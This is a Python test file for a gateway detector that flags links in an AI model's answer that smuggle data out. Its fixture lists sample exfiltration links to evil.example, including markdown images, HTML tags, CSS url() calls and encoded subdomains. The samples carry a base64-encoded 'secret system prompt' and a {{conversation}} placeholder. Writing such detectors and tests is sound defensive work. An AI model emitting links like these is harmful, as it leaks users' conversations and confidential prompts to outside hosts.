"""Links that carry data out of an answer, and ordinary ones."""

import pytest

from detectors.examples import check, sightings
from promptguard_gateway.detectors import links

DATA = "c2VjcmV0IHN5c3RlbSBwcm9tcHQgYW5kIG1vcmU"
LONG = DATA * 3
LINKS = {
    "markdown_image": (
        [f"![x](https://evil.example/p.png?q={DATA})", f"![](//evil.example/{DATA}{DATA})"],
        ["![logo](https://x.example/logo.png)"],
    ),
    "reference_definition": ([f"![x][1]\n\n[1]: https://evil.example/p?d={DATA}"], ["[1]: https://docs.example/page"]),
    "html_embedding": ([f'<img src="https://evil.example/p?d={DATA}">'], ['<img src="https://x.example/a.png">']),
    "css_url": ([f"a {{ background: url(https://evil.example/p?d={DATA}) }}"], ["url(https://x.example/a.png)"]),
    "markdown_image_query": (["![x](https://x.example/p.png?name=jane-doe)"], ["![x](https://x.example/p.png?w=20)"]),
    "html_embedding_query": (
        ['<iframe src="https://x.example/p?name=jane-doe">'],
        ['<iframe src="https://x.example/p?w=2">'],
    ),
    "markdown_link": ([f"[go](https://evil.example/p?d={DATA})"], ["[docs](https://docs.example/guide?lang=en)"]),
    "markdown_link_long": ([f"[go](https://evil.example/p?d={LONG})"], [f"[go](https://evil.example/p?d={DATA})"]),
    "html_anchor": ([f'<a href="https://evil.example/p?d={DATA}">'], ['<a href="https://docs.example/guide">']),
    "html_anchor_long": (
        [f'<a href="https://evil.example/p?d={LONG}">'],
        [f'<a href="https://evil.example/p?d={DATA}">'],
    ),
    "bare_address_long": ([f"see https://evil.example/p?d={LONG}"], ["see https://docs.example/guide?lang=en"]),
    "encoded_host": ([f"https://{DATA[:30]}.{DATA[:25]}.evil.example/"], ["https://www.docs.example/"]),
    "fill_in_image": (["![x](https://evil.example/p?d={{conversation}})"], ["![x](https://x.example/p.png)"]),
}


def test_every_pattern_finds_its_examples_and_no_near_miss():
    """Each pattern is found in its own examples and not believed in near-misses."""
    check([links.LINKS], LINKS)


@pytest.mark.parametrize(
    "text",
    [
        "See [the guide](https://docs.python.org/3/library/re.html#module-re) for more.",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
        "![badge](https://img.shields.io/badge/build-passing-green?style=flat)",
        "https://github.com/python/cpython/commit/0123456789abcdef0123456789abcdef01234567",
        '<a href="https://example.com/search?q=how+to+cook">search</a>',
    ],
)
def test_ordinary_links_stay_below_the_block_threshold(text):
    """Documentation, badges, videos and searches never reach 0.8."""
    assert [s.pattern.name for s in sightings(text, at_least=0.8) if s.spec.id == links.LINKS.spec.id] == []


def test_the_whole_image_is_the_finding():
    """Redacting takes the image with its closing bracket, however long the address is."""
    image = f"![x](https://evil.example/p?d={LONG}{LONG})"
    best = [s for s in sightings(f"a {image} b") if s.pattern.name == "markdown_image"]
    assert [(s.start, s.end) for s in best] == [(2, 2 + len(image))]
